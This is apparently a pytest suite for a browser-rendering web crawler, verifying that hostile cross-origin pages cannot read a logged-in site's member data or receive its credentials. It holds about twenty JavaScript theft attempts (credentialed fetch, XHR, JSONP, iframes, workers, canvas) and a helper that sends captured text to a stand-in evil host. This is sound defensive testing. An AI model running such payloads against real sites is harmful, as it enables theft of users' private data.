"""L13, X-N7: no page reads what Chromium would refuse it, and no credential goes where Chromium would send none."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any, Final

import pytest

from tests.crawl_forks import COMMANDS
from tests.hostile_login_site import APP, EVIL, HostileLoginSite, Page
from tests.page_wall import need_browser
from tests.site.client import write_project
from tests.stored_rows import query_columns

pytestmark = pytest.mark.extended

SECRET: Final = "wordsformembers"
PUBLIC: Final = "wordsforguests"
TOKEN: Final = "t0ken-of-the-source"
_FILLER: Final = " ".join(f"word{number}" for number in range(40))
#: How a source knows somebody; each opens what the site has for members.
LOGINS: Final[dict[str, dict[str, Any]]] = {
    "cookies": {"login": {"type": "cookies", "fields": {"sid": TOKEN}}},
    "basic": {"login": {"type": "basic", "username": "wanda", "password": "pw"}},
    "headers": {"fetch": {"headers": {"X-Token": TOKEN}}},
}
#: What a page of another host of the boundary tries; MEMBERS is the origin of the other. Whatever it reads it writes and sends.
ATTACKS: Final = {
    "fetch without credentials": "fetch('MEMBERS/data.json', {credentials: 'omit'}).then(r => r.text()).then(tell)",
    "fetch with credentials": "fetch('MEMBERS/data.json', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "fetch without cors": "fetch('MEMBERS/data.json', {mode: 'no-cors', credentials: 'include'}).then(r => r.text()).then(tell)",
    "open data": "fetch('MEMBERS/open.json', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "open data, no credentials": "fetch('MEMBERS/open.json').then(r => r.text()).then(tell)",
    "xhr": "const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = () => tell(x.responseText);"
    "x.open('GET', 'MEMBERS/data.json'); x.send()",
    "jsonp": "const s = document.createElement('script'); s.src = 'MEMBERS/jsonp.js'; document.head.append(s)",
    "module": "import('MEMBERS/module.js').then(m => tell(m.words))",
    "cached script": "const s = document.createElement('script'); s.src = 'MEMBERS/cached.js'; document.head.append(s)",
    "style": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'MEMBERS/style.css';"
    "l.onload = () => tell(getComputedStyle(document.body).getPropertyValue('--words')); document.head.append(l)",
    "redirect of data": "fetch('/away?to=data.json').then(r => r.text()).then(tell)",
    "redirect of data, with credentials": "fetch('/away?to=data.json', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "redirect of a script": "const s = document.createElement('script'); s.src = '/away?to=jsonp.js'; document.head.append(s)",
    "redirect there and back": "fetch('MEMBERS/back', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "frame": "const f = document.createElement('iframe'); f.src = 'MEMBERS/page.html';"
    "f.onload = () => { tell(f.contentDocument ? f.contentDocument.body.textContent : 'closed') }; document.body.append(f)",
    "frame of its own that asks": "const f = document.createElement('iframe');"
    "f.srcdoc = `<script>fetch('MEMBERS/data.json', {credentials: 'include'}).then(r => r.text())"
    ".then(t => parent.document.body.append(t))</` + `script>`; document.body.append(f)",
    "frame in a sandbox": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';"
    "f.srcdoc = `<script src=MEMBERS/jsonp.js></` + `script><script>parent.postMessage(String(window.words), '*')</` + `script>`;"
    "onmessage = e => tell(e.data); document.body.append(f)",
    "worker": "const w = new Worker(URL.createObjectURL(new Blob([`fetch('MEMBERS/data.json', {credentials: 'include'})"
    ".then(r => r.text()).then(postMessage)`]))); w.onmessage = e => tell(e.data)",
    "worker with its script": "const w = new Worker(URL.createObjectURL(new Blob([`self.words = 0; self.tell = postMessage;"
    "importScripts('MEMBERS/jsonp.js'); postMessage(String(self.words))`]))); w.onmessage = e => tell(e.data)",
    "font": "new FontFace('f', 'url(MEMBERS/data.json)').load().then(tell)",
    "image on a canvas": "const i = new Image(); i.src = 'MEMBERS/picture.svg'; i.onload = () => { const c ="
    "document.createElement('canvas'); const x = c.getContext('2d'); x.drawImage(i, 0, 0); tell(c.toDataURL()) }",
}


@pytest.fixture
def site() -> Iterator[HostileLoginSite]:
    need_browser()
    with HostileLoginSite() as running:
        yield running


def is_member(handler: BaseHTTPRequestHandler) -> bool:
    headers = handler.headers
    return TOKEN in (headers.get("Cookie") or "") or bool(headers.get("Authorization") or headers.get("X-Token"))


def put_members(site: HostileLoginSite, *links: str) -> None:
    """What the host of the members has: for them other words than for all others."""

    def answer(form: str, kind: str, *headers: tuple[str, str]) -> Any:
        def build(handler: BaseHTTPRequestHandler) -> Page:
            words = SECRET if is_member(handler) else PUBLIC
            return Page(form % words, kind=kind, headers=[("Cache-Control", "no-store"), *headers])

        return build

    anchors = "".join(f"<a href={link}>{link}</a>" for link in links)
    cors = (("Access-Control-Allow-Origin", "*"),)
    script = "self.words = '%s'; typeof tell === 'function' && tell(self.words)"
    use = "<script>fetch('/data.json').then(r => r.json()).then(d => document.getElementById('root').append('own ' + d))</script>"
    files: dict[str, Any] = {
        "/": Page(f"<title>members</title><p>{_FILLER}</p>{anchors}<script src=/cached.js></script>"),
        "/own.html": Page(f"<title>own</title><p>{_FILLER}</p><div id=root></div>{use}"),
        "/data.json": answer('"%s"', "application/json"),
        "/open.json": answer('"%s"', "application/json", *cors),
        "/jsonp.js": answer(script, "text/javascript"),
        "/module.js": answer("export const words = '%s'", "text/javascript", *cors),
        "/style.css": answer("body { --words: '%s' }", "text/css"),
        "/page.html": answer("<p>%s</p>", "text/html"),
        "/picture.svg": answer("<svg xmlns='http://www.w3.org/2000/svg'><text>%s</text></svg>", "image/svg+xml"),
        "/back": Page("", 302, [("Location", site.url("/away?to=data.json", EVIL)), *cors]),
    }
    for path, file in files.items():
        site.put(path, file)

    def cached(handler: BaseHTTPRequestHandler) -> Page:
        return Page(script % (SECRET if is_member(handler) else PUBLIC), kind="text/javascript")

    def away(handler: BaseHTTPRequestHandler) -> Page:
        return Page("", 302, [("Location", site.url(f"/{handler.path.partition('to=')[2]}"))])

    site.put("/cached.js", cached)
    site.put("/away", away, EVIL)


def put_attack(site: HostileLoginSite, code: str) -> None:
    tell = "function tell(t) { document.getElementById('root').append(' got ' + t + ' '); fetch('/collect?d=' + encodeURIComponent(t)) }"
    body = f"<title>evil</title><p>{_FILLER}</p><div id=root></div><script>{tell}\n{code.replace('MEMBERS', site.url(''))}</script>"
    site.put("/evil.html", Page(body), EVIL)
    site.put("/collect", Page("", 204), EVIL)


def crawl(
    folder: Path, site: HostileLoginSite, *paths: str, hosts: Sequence[str] = (APP,), **more: Any
) -> dict[str, dict[str, Any]]:
    """Crawls pages as the browser renders them; the rows by path. Keys of [fetch] and [render] may be given."""
    fetch = {"retries": 0, "timeout_seconds": 5, "delay_seconds": 0, **more.pop("fetch", {})}
    render = {"mode": "always", "max_seconds": 3.0, **more.pop("render", {})}
    start = {"urls": [site.url(path) for path in paths or ("/",)], "sitemaps": "off"}
    scope = {"include_hosts": [*hosts], "trap_after": 0}
    write_project(folder, site.port, start=start, scope=scope, fetch=fetch, render=render, **more)
    ended = COMMANDS.run(folder, "crawl", "demo")
    assert ended.returncode == 0, ended.stderr
    rows = query_columns(folder, "SELECT url, code, rule FROM urls")
    return {row["url"].split(str(site.port), 1)[1]: row for row in rows}


def find(folder: Path, words: str) -> list[str]:
    """The pages, by their paths, that are found by words."""
    hits = json.loads(COMMANDS.run(folder, "search", words, "--json").stdout)["hits"]
    return sorted(hit["url"].rpartition("/")[2] for hit in hits)


@pytest.mark.parametrize("login", LOGINS)
def test_l13_page_when_it_asks_another_host_then_it_reads_nothing_that_a_browser_would_not_give_it(
    tmp_path: Path, site: HostileLoginSite, login: str
) -> None:
    names = {f"evil{number}.html": attack for number, attack in enumerate(ATTACKS.values())}
    put_members(site, "/own.html", *(site.url(f"/{name}", EVIL) for name in names))
    for name, code in names.items():
        put_attack(site, code)
        site.put(f"/{name}", site.pages[EVIL, "/evil.html"], EVIL)

    crawl(tmp_path, site, hosts=(APP, EVIL), **LOGINS[login])

    assert find(tmp_path, SECRET) == ["own.html", "page.html"]
    # Both are pages of the members themselves.
    assert not [one for one in site.seen(EVIL) if one.path in {"/own.html", "/page.html"}]
    assert SECRET not in " ".join(one.path for one in site.seen(EVIL))
    assert not [one for one in site.seen(EVIL) if TOKEN in str(one.headers) or "authorization" in one.headers]
    assert {one.path for one in site.seen(EVIL)} >= {f"/{name}" for name in names}


@pytest.mark.parametrize("login", LOGINS)
def test_l13_page_when_a_redirect_led_outside_the_boundary_then_it_has_no_credentials_and_no_private_address(
    tmp_path: Path, site: HostileLoginSite, login: str
) -> None:
    put_members(site, "/go")
    put_attack(site, ATTACKS["jsonp"] + ";" + ATTACKS["open data"])
    site.put("/go", Page("", 302, [("Location", site.url("/evil.html", EVIL))]))

    crawl(tmp_path, site, **LOGINS[login])

    assert find(tmp_path, SECRET) == []
    assert not [one for one in site.seen(APP) if "evil" in one.headers.get("referer", "")]
    assert SECRET not in " ".join(one.path for one in site.seen(EVIL))
